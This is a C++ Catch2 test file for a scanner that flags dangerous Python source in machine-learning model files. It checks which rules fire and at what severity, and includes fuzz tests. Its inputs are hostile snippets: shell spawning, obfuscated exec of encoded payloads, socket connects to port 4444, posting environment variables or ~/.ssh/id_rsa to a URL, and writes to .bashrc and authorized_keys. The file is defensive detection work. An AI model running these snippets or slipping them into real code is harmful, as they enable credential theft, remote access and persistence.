#include <catch2/catch.hpp>

#include <string>
#include <string_view>
#include <utility>

#include "detect/python_source/judge.hpp"
#include "detect/python_source/tokens.hpp"

using namespace modelaudit;
using namespace modelaudit::detect;

namespace {

std::string shown(std::string_view source, PythonKind kind = PythonKind::module) {
  std::string out;
  const auto judgement = judge_python(source, kind);
  for (const Finding& finding : judgement.findings) out += finding.rule + ":" + to_string(finding.severity) + " ";
  for (const Gap& gap : judgement.gaps) out += "gap:" + gap.what + " ";
  return out;
}

bool raises(std::string_view source, std::string_view rule, Severity severity, PythonKind kind = PythonKind::module) {
  for (const Finding& finding : judge_python(source, kind).findings) {
    if (finding.rule == rule && finding.severity == severity) return true;
  }
  return false;
}

}  // namespace

TEST_CASE("calls at import time are critical, in functions a warning", "[python_source]") {
  for (const std::string_view source :
       {"import os\nos.system('true')\n", "import os as o\no.system('x')", "from os import system as s\ns('x')", "from os import *\nsystem('x')",
        "import subprocess\nsubprocess.run(['sh'])", "from subprocess import Popen\np = Popen('x', shell=True)", "import pty; pty.spawn('/bin/sh')",
        "import os\nclass A:\n    x = os.popen('id').read()\n", "import os\n@os.system\ndef f(): pass\n", "import os\ndef f(x=os.system('id')): pass\n",
        "import os\nif True: os.system('x')", "import os\ntry:\n  os.system('x')\nexcept Exception as e:\n  pass\n", "import os\nx = [os.system('x')]\n",
        "import os\nprint 'python 2', 1\nos.system('x')\n", "import os\nf = os.system\nf('x')\n", "import os\ndef main():\n    os.system('x')\nmain()\n",
        "import os\ndef a():\n    os.system('x')\ndef b():\n    a()\nb()\n", "import os\nclass A:\n  def __init__(self):\n    os.system('x')\nA()\n",
        "import os\nx = f'{os.system(1)}'\n", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('x'))\n", "os.system('no import in sight')",
        "import os, threading\nthreading.Thread(target=os.system, args=('x',)).start()\n"}) {
    CAPTURE(source, shown(source));
    CHECK(raises(source, "python-process", Severity::critical));
  }
  for (const std::string_view source : {"import os\ndef f():\n    os.system('x')\n", "import os\nif __name__ == '__main__':\n    os.system('x')\n",
                                        "import os\nf = lambda: os.system('x')\n", "import os\nclass A:\n  def f(self):\n    os.system('x')\n"}) {
    CAPTURE(source, shown(source));
    CHECK(raises(source, "python-process", Severity::warning));
    CHECK_FALSE(raises(source, "python-process", Severity::critical));
  }
}

TEST_CASE("hidden names and decoded code are critical anywhere", "[python_source]") {
  for (const std::string_view source :
       {"import os\ngetattr(os, 'sys' + 'tem')('x')\n", "__import__('os').system('x')\n", "__import__('o'+'s').system('x')\n",
        "import importlib\nimportlib.import_module('o' + 's').system('x')\n", "import builtins\nvars(builtins)['ev'+'al']('1+x')\n",
        "__builtins__['eval'](x)\n", "__builtins__.__dict__['ex'+'ec'](x)\n", "globals()['__builtins__'].eval(x)\n", "import os\nos.__dict__['system']('x')\n",
        "import sys\nsys.modules['os'].system('x')\n", "import os, operator\noperator.attrgetter('system')(os)('x')\n",
        "import os, functools\nfunctools.partial(os.system, 'x')()\n", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgneCcp'))\n",
        "import base64\nexec(base64.b64decode(data))\n", "import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))\n",
        "import marshal\nexec(marshal.loads(x))\n", "exec(bytes.fromhex('696d706f7274206f730a6f732e73797374656d2827782729'))\n",
        "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,39,120,39,41]))\n",
        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,49,41])))\n",
        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(1)', 'rot13'))\n", "import os\ndef f():\n    getattr(os, 'metsys'[::-1])('x')\n",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('x')\n", "import os\ngetattr(os, f\"{'sys'}tem\")('x')\n", "import os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('x')\n",
        "exec('import o' + 's; os.system(1)')\n"}) {
    CAPTURE(source, shown(source));
    CHECK(raises(source, "python-obfuscated", Severity::critical));
  }
}

TEST_CASE("other classes of calls", "[python_source]") {
  CHECK(raises("eval(x)\n", "python-dynamic-code", Severity::critical));
  CHECK(raises("def f(x):\n  return eval(x)\n", "python-dynamic-code", Severity::warning));
  CHECK(raises("exec('import os; os.system(1)')\n", "python-dynamic-code", Severity::critical));
  CHECK(raises("from ctypes import *\nCDLL('x.so')\n", "python-native", Severity::critical));
  CHECK(raises("import torch\ntorch.ops.load_library('x.so')\n", "python-native", Severity::critical));
  CHECK(raises("import pickle\npickle.loads(x)\n", "python-unsafe-load", Severity::warning));
  CHECK(raises("import torch\ndef f(p):\n  return torch.load(p)\n", "python-unsafe-load", Severity::info));
  CHECK(raises("import socket\ndef handle(d, c):\n  s = socket.socket()\n  s.connect(('1.2.3.4', 4444))\n", "python-network", Severity::warning));
  CHECK(raises("import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))\n", "python-network", Severity::critical));
  CHECK(raises("import requests\nrequests.get('https://x')\n", "python-network", Severity::warning));
  CHECK(raises("import requests\ndef f():\n  requests.get('https://x')\n", "python-network", Severity::info));
  CHECK(raises("import os, requests\ndef handle(d, c):\n  requests.post('https://x', json=dict(os.environ))\n", "python-exfiltration", Severity::critical));
  CHECK(raises("import urllib.request, os\nurllib.request.urlopen('http://x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n", "python-exfiltration",
               Severity::critical));
  CHECK(raises("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "python-persistence", Severity::critical));
  CHECK(raises("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')\n", "python-persistence", Severity::critical));
  CHECK(raises("# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0-\n", "python-odd-encoding", Severity::warning));
}

TEST_CASE("ordinary model code stays silent", "[python_source]") {
  for (const std::string_view source :
       {"model.eval()\n", "import re\nx = re.compile('a')\n", "df.eval('a+b')\n", "import torch\nclass M(torch.nn.Module):\n  def forward(self, x):\n    return self.l(x)\n",
        "import os\np = os.path.join(os.environ.get('HOME', ''), 'x')\nos.makedirs(p, exist_ok=True)\n", "import importlib.util\nok = importlib.util.find_spec('flash_attn')\n",
        "import importlib\nm = importlib.import_module('transformers.' + name)\n", "print('os.system(1)')\n", "# os.system('x')\n", "'''\nimport os\nos.system(1)\n'''\n",
        "def f(eval, x):\n  return eval(x)\n", "def compile(x): return x\ncompile(1)\n", "class A:\n  def exec(self): pass\n  def run(self): self.exec()\n",
        "from dataclasses import dataclass\n@dataclass\nclass C:\n  a: int = 1\n  b: str = 'x'\n", "x = getattr(torch, dtype)\n", "import socket\nh = socket.gethostname()\n",
        "import types\nisinstance(x, types.FunctionType)\n", "with open('out.txt', 'w') as f:\n  f.write('x')\n", "match x:\n  case [1, *_]: pass\n",
        "async def f():\n  async with a as b, c as d:\n    await x\n", "x = [i for i in range(10) if i]\ny = {k: v for k, v in x}\nz = (a := 1)\n", "def f(a, /, b, *, c=1, **k) -> int: ...\n",
        "import numpy as np\nx = np.load('a.npy')\n", "import logging\nlogger = logging.getLogger(__name__)\n", "exec('x = 1')\n", "lambda: 0\n", "x: int\n", "\xEF\xBB\xBFimport os\n",
        "# -*- coding: latin-1 -*-\nx = 1\n", "type X[T] = list[T]\ndef f[T](x: T) -> T: return x\n"}) {
    CAPTURE(source);
    CHECK(shown(source) == "");
  }
}

TEST_CASE("graph code of FX modules", "[python_source]") {
  CHECK(shown("\n\n\ndef forward(self, x):\n    l = self.l(x);  x = None\n    relu = torch.nn.functional.relu(l, inplace = False);  l = None\n    add = relu + 1\n    return add\n    ",
              PythonKind::fx_graph) == "");
  CHECK(shown("import torch\nfrom torch import device\nimport operator\nfrom math import inf, nan\ndef forward(self, x : torch.Tensor):\n    return operator.getitem(x, 0)\n",
              PythonKind::fx_graph) == "");
  CHECK(raises("import os\ndef forward(self, x):\n    os.system('x')\n", "python-fx-graph", Severity::critical, PythonKind::fx_graph));
  CHECK(raises("def forward(self, x):\n    return eval('1' + x)\n", "python-fx-graph", Severity::critical, PythonKind::fx_graph));
}

TEST_CASE("every prefix of source and every flipped byte is judged", "[python_source]") {
  const std::string whole =
      "import os as o\nclass A(B):\n    '''doc'''\n    x = {'a': [1, 2.5e3, 0x1F], **k}\n    @p\n    def f(self, y=lambda z: z[1:2, ::3]):\n        for i, j in y:\n"
      "            s = f\"{i!r:>{j}}\" \\\n                if i else b'\\x00'\n        return o.path\n";
  for (std::size_t cut = 0; cut <= whole.size(); ++cut) (void)judge_python(std::string_view(whole).substr(0, cut));
  for (std::size_t at = 0; at < whole.size(); ++at) {
    for (const char mask : {'\x01', '\x20', '\x7F'}) {
      std::string bent = whole;
      bent[at] = static_cast<char>(bent[at] ^ mask);
      CHECK(judge_python(bent).findings == judge_python(bent).findings);
    }
  }
}

TEST_CASE("hostile source ends", "[python_source]") {
  for (const std::string_view piece : {"(", "[", "{", "lambda:", "not ", "-", "a.", "a(", "f'{", "if x:\n", "x if y else ", "1+", "(x for x in ", "def f(a=", "\"\"\"", "\\\n"}) {
    std::string source;
    while (source.size() < 200'000) source += piece;
    CAPTURE(piece);
    (void)judge_python(source);
  }
  std::string nested = "exec(\"x\")";
  for (int i = 0; i < 10; ++i) nested = "exec(" + std::string("'''") + nested + "''')";
  (void)judge_python(nested);
  std::string deep;
  for (int i = 0; i < 2000; ++i) deep += std::string(static_cast<std::size_t>(i), ' ') + "if x:\n";
  (void)judge_python(deep);
  std::string product = "x = [a for a in ";
  for (int i = 0; i < 6; ++i) product += "[" + std::string("1,") + "2] + ";
  (void)judge_python(product + "[0]]");
  SUCCEED();
}
